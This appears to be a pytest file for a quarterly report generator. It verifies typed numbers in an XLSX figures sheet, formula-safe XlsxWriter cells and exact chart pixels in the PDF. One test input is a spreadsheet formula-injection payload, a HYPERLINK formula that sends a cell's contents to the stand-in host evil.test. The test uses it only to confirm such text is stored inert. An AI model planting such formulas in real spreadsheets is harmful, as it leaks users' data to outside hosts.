"""A quarterly report's files as read back: the XLSX "Figures" sheet holds each figure of the
document with its numbers typed as numbers (openpyxl), XlsxWriter's cells stay formula-safe,
and the PDF's charts are the pixels of the PNGs they were drawn as (pypdf)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
import xlsxwriter
from openpyxl import load_workbook
from PIL import Image as PILImage
from pypdf import PdfReader

from registry.core.spreadsheet import xlsxwriter_row
from reports import services
from reports.charts import ChartSvg
from reports.loaders import CohortFilter, load_frames
from reports.render import FIGURE_COLUMNS, ReportDocument, render_pdf, render_xlsx
from tests.reports.cohort import build_cohort

NUMBERS = ("n", "denominator", "value", "lower", "upper")


def test_figures_sheet_holds_every_figure_typed_as_the_document_has_it(site_a, site_b):
    build_cohort(site_a, site_b)
    _, end = services.quarter_bounds(2026, 1)
    frames = load_frames(CohortFilter(performed_to=end), as_of=end)
    built_at = dt.datetime(2026, 4, 1, 2, 0, tzinfo=dt.UTC)
    inputs = services.quarterly_inputs(frames, site=site_a, year=2026, quarter=1, version=1, built_at=built_at)
    document = services.quarterly_document(frames, inputs)
    expected = []  # in the document's order: (section, table, row, column), figure
    for section in document.sections:
        for table in section.tables:
            benchmark = next((i for i, c in enumerate(table.columns) if c.startswith("Benchmark")), None)
            for row, figures in zip(table.rows, table.figures, strict=True):
                for index, figure in enumerate(figures):
                    if figure is not None and index not in (0, benchmark):
                        expected.append(((section.title, table.title, row[0], table.columns[index]), figure))

    sheet = load_workbook(io.BytesIO(render_xlsx(document)))["Figures"]
    header, *rows = sheet.iter_rows()

    assert [cell.value for cell in header] == FIGURE_COLUMNS
    assert len(rows) == len(expected) > 100
    for row, (where, figure) in zip(rows, expected, strict=True):
        assert tuple(cell.value for cell in row[:4]) == where
        assert all(cell.data_type == "s" for cell in row[:4])
        for cell, name in zip(row[4:9], NUMBERS, strict=True):
            number = getattr(figure, name)
            if number is None:
                assert cell.value is None, (row[:4], name)
            else:
                # Written as "%.16g", as openpyxl writes a number.
                assert cell.data_type == "n" and cell.value == pytest.approx(number, rel=1e-15), (row[:4], name)
        assert row[9].value is None or row[9].data_type == "n"
        assert row[11].data_type == "s" and row[11].value == str(figure)


def test_xlsxwriter_cells_are_typed_and_formula_like_text_is_quote_prefixed():
    values = ["=HYPERLINK(\"http://evil.test/?\"&A2,\"x\")", "=1+1", "@SUM(A1)", "-2.5", "http://example.test", "plain",
              4, 2.5, None, "", True]  # fmt: skip
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False})
    sheet = workbook.add_worksheet("x")
    xlsxwriter_row(sheet, 0, values, quoted=workbook.add_format({"quote_prefix": True}))
    workbook.close()

    cells = [load_workbook(buffer)["x"].cell(row=1, column=column + 1) for column in range(len(values))]

    assert [cell.value for cell in cells] == [*values[:8], None, None, True]
    assert [cell.data_type for cell in cells] == ["s"] * 6 + ["n", "n", "n", "n", "b"]
    assert [bool(cell.quotePrefix) for cell in cells] == [True, True, True] + [False] * 8
    assert not any(cell.hyperlink for cell in cells)


def _png(mode: str, size=(60, 40)) -> bytes:
    image = PILImage.new(mode, size)
    image.putdata([(x * 7 + y * 3) % 256 if mode == "L" else (x * 4, y * 6, (x * y) % 256) for y in range(size[1]) for x in range(size[0])])  # fmt: skip
    buffer = io.BytesIO()
    image.save(buffer, format="png")
    return buffer.getvalue()


def test_pdf_charts_are_the_pixels_of_their_pngs():
    # An RGB chart (embedded with its own compressed pixels) and a grey one (decoded by reportlab).
    chart = ChartSvg("<img>")
    chart.png = _png("RGB")
    grey = _png("L", size=(30, 20))
    document = ReportDocument(
        title="Quarterly report", subtitle="", facts=[], sections=[], charts=[("Chart", chart)], images=[("Grey", grey)]
    )

    pages = PdfReader(io.BytesIO(render_pdf(document))).pages
    images = [image.image for page in pages for image in page.images]

    assert len(images) == 2
    for embedded, png in zip(images, (chart.png, grey), strict=True):
        original = PILImage.open(io.BytesIO(png))
        assert embedded.size == original.size
        assert embedded.tobytes() == original.tobytes()
